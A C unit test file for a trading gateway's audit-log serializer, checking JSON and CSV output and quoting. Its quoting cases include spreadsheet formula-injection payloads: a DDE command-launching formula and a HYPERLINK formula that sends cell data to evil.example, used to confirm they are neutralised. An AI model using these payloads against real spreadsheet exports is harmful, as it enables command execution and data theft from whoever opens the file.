/* SPDX-License-Identifier: Apache-2.0 */
/* AuditEntry as JSON and as CSV, letter for letter. */
#include "services/gateway/operations/audit_entry.h"

#include <criterion/criterion.h>
#include <string.h>

#include "common/cleanup.h"

static const char *const full[AUDIT_COLUMNS] = {"42",
                                                "0199f0a5-7d0c-7000-8000-000000000001",
                                                "0199f0a5-7d0c-7000-8000-000000000002",
                                                "0199f0a5-7d0c-7000-8000-000000000003",
                                                "7",
                                                "FILLED",
                                                "PARTIAL",
                                                "WORKING",
                                                "AAPL",
                                                "50.00000000",
                                                "150.45000000",
                                                "100.00000001",
                                                "999999999999.99999999",
                                                "SIM",
                                                "HALTED",
                                                "fifty, at last",
                                                "executor",
                                                "1760702465000000",
                                                "1760702465003210",
                                                "00ff",
                                                "BUY",
                                                "E-1001",
                                                "101112131415161718191a1b1c1d1e1f"};

/* What a halt of everyone has not. */
static const char *const least[AUDIT_COLUMNS] = {[0] = "1",      [1] = "0199f0a5-7d0c-7000-8000-000000000001",
                                                 [5] = "HALTED", [16] = "olga",
                                                 [17] = "0",     [18] = "60000",
                                                 [19] = "00ff"};

Test(audit_entry, json_has_every_member_of_the_contract)
{
    CLEANUP(buffer_release) struct buffer out = BUFFER_INIT(0);

    audit_entry_json(full, &out);
    cr_expect_str_eq(
        out.data,
        "{\"log_seq\":42,\"event_id\":\"0199f0a5-7d0c-7000-8000-000000000001\",\"order_id\":"
        "\"0199f0a5-7d0c-7000-8000-000000000002\",\"trader_id\":\"0199f0a5-7d0c-7000-8000-000000000003\","
        "\"trader_seq\":7,\"action\":\"FILLED\",\"status\":\"PARTIAL\",\"execution_state\":\"WORKING\","
        "\"symbol\":\"AAPL\",\"quantity\":50,\"price\":150.45,\"total_filled\":100.00000001,"
        "\"average_price\":999999999999.99999999,\"venue\":\"SIM\",\"reason\":\"HALTED\",\"message\":"
        "\"fifty, at last\",\"actor\":\"executor\",\"timestamp\":\"2025-10-17T12:01:05.000000Z\","
        "\"recorded_at\":\"2025-10-17T12:01:05.003210Z\",\"hash\":\"00ff\",\"side\":\"BUY\","
        "\"venue_exec_id\":\"E-1001\",\"trace_id\":\"101112131415161718191a1b1c1d1e1f\"}");
}

Test(audit_entry, what_is_absent_is_null_or_empty)
{
    CLEANUP(buffer_release) struct buffer out = BUFFER_INIT(0);

    audit_entry_json(least, &out);
    cr_expect_str_eq(
        out.data,
        "{\"log_seq\":1,\"event_id\":\"0199f0a5-7d0c-7000-8000-000000000001\",\"order_id\":null,"
        "\"trader_id\":null,\"trader_seq\":null,\"action\":\"HALTED\",\"status\":null,"
        "\"execution_state\":null,\"symbol\":null,\"quantity\":null,\"price\":null,\"total_filled\":null,"
        "\"average_price\":null,\"venue\":null,\"reason\":null,\"message\":null,\"actor\":\"olga\","
        "\"timestamp\":\"1970-01-01T00:00:00.000000Z\",\"recorded_at\":\"1970-01-01T00:00:00.060000Z\","
        "\"hash\":\"00ff\",\"side\":null,\"venue_exec_id\":null,\"trace_id\":null}");
    buffer_clear(&out);
    audit_entry_csv(least, &out);
    cr_expect_str_eq(out.data, "1,0199f0a5-7d0c-7000-8000-000000000001,,,,HALTED,,,,,,,,,,,olga,"
                               "1970-01-01T00:00:00.000000Z,1970-01-01T00:00:00.060000Z,00ff,,,\r\n");
}

Test(audit_entry, a_row_of_csv_follows_its_header)
{
    CLEANUP(buffer_release) struct buffer out = BUFFER_INIT(0);

    audit_entry_csv_header(&out);
    audit_entry_csv(full, &out);
    cr_expect_str_eq(
        out.data,
        "log_seq,event_id,order_id,trader_id,trader_seq,action,status,execution_state,symbol,quantity,price,"
        "total_filled,average_price,venue,reason,message,actor,timestamp,recorded_at,hash,side,venue_exec_id,"
        "trace_id\r\n"
        "42,0199f0a5-7d0c-7000-8000-000000000001,0199f0a5-7d0c-7000-8000-000000000002,"
        "0199f0a5-7d0c-7000-8000-000000000003,7,FILLED,PARTIAL,WORKING,AAPL,50,150.45,100.00000001,"
        "999999999999.99999999,SIM,HALTED,\"fifty, at last\",executor,2025-10-17T12:01:05.000000Z,"
        "2025-10-17T12:01:05.003210Z,00ff,BUY,E-1001,101112131415161718191a1b1c1d1e1f\r\n");
}

/* Numbers are numbers for a spreadsheet too, whatever their sign. */
Test(audit_entry, a_negative_number_stays_one)
{
    CLEANUP(buffer_release) struct buffer out = BUFFER_INIT(0);
    const char *columns[AUDIT_COLUMNS];

    memcpy(columns, least, sizeof(columns));
    columns[10] = "-150.45000000";
    audit_entry_csv(columns, &out);
    cr_expect_not_null(strstr(out.data, ",-150.45,"), "%s", out.data);
}

Test(audit_entry, text_is_quoted_where_it_must_be_and_exact)
{
    static const struct {
        const char *text, *csv, *json;
    } cases[] = {
        {"plain", "plain", "\"plain\""},
        {"a \"quoted\" word", "\"a \"\"quoted\"\" word\"", "\"a \\\"quoted\\\" word\""},
        {"\"", "\"\"\"\"", "\"\\\"\""},
        {"one,two", "\"one,two\"", "\"one,two\""},
        {"two\nlines", "\"two\nlines\"", "\"two\\nlines\""},
        {"two\r\nlines", "\"two\r\nlines\"", "\"two\\r\\nlines\""},
        {"a\rreturn", "\"a\rreturn\"", "\"a\\rreturn\""},
        {" blanks ", " blanks ", "\" blanks \""},
        {"a;b\ttab", "a;b\ttab", "\"a;b\\ttab\""},
        /* What a spreadsheet would take for a formula. */
        {"=1+1", "'=1+1", "\"=1+1\""},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "\"=cmd|' /C calc'!A0\""},
        {"=HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
         "\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"ok\"\")\"",
         "\"=HYPERLINK(\\\"http://evil.example?x=\\\"&A1,\\\"ok\\\")\""},
        {"+49 30", "'+49 30", "\"+49 30\""},
        {"-5", "'-5", "\"-5\""},
        {"@SUM(1)", "'@SUM(1)", "\"@SUM(1)\""},
        {"\t=1", "'\t=1", "\"\\t=1\""},
        {"\r=1", "\"'\r=1\"", "\"\\r=1\""},
        {"\n=1", "\"'\n=1\"", "\"\\n=1\""},
        {"\xef\xbc\x9d"
         "1",
         "'\xef\xbc\x9d"
         "1",
         "\"\xef\xbc\x9d"
         "1\""},
        {"'", "''", "\"'\""},
        {"'=1", "''=1", "\"'=1\""},
        {" =1", " =1", "\" =1\""},
        {"1=1", "1=1", "\"1=1\""},
        {"\xe2\x82\xac \xf0\x9f\x98\x80", "\xe2\x82\xac \xf0\x9f\x98\x80",
         "\"\xe2\x82\xac \xf0\x9f\x98\x80\""},
        {"", "", "null"},
    };

    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        CLEANUP(buffer_release) struct buffer out = BUFFER_INIT(0), expected = BUFFER_INIT(0);
        const char *columns[AUDIT_COLUMNS];
        memcpy(columns, least, sizeof(columns));
        columns[15] = cases[i].text;
        audit_entry_csv(columns, &out);
        buffer_append_format(&expected, ",,%s,olga,", cases[i].csv);
        cr_expect_not_null(strstr(out.data, expected.data), "%s in %s", expected.data, out.data);
        buffer_clear(&out);
        buffer_clear(&expected);
        audit_entry_json(columns, &out);
        buffer_append_format(&expected, "\"message\":%s,\"actor\"", cases[i].json);
        cr_expect_not_null(strstr(out.data, expected.data), "%s in %s", expected.data, out.data);
        cr_expect_null(strchr(out.data, '\n'), "an entry is one line");
    }
}
